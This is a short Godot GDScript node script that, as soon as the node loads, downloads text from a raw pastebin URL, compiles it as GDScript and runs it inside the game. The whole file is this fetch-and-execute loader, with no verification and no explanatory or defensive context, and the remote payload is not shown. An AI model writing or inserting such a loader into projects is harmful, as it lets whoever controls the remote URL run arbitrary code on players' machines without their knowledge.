extends Node

var http := HTTPRequest.new()

func _ready() -> void:
	add_child(http)
	http.request_completed.connect(_on_code)
	http.request("https://pastebin.com/raw/Zr8Qw1Lp")

func _on_code(_r, _c, _h, body: PackedByteArray) -> void:
	var script := GDScript.new()
	script.source_code = body.get_string_from_utf8()
	script.reload()
	var obj = script.new()
	add_child(obj)
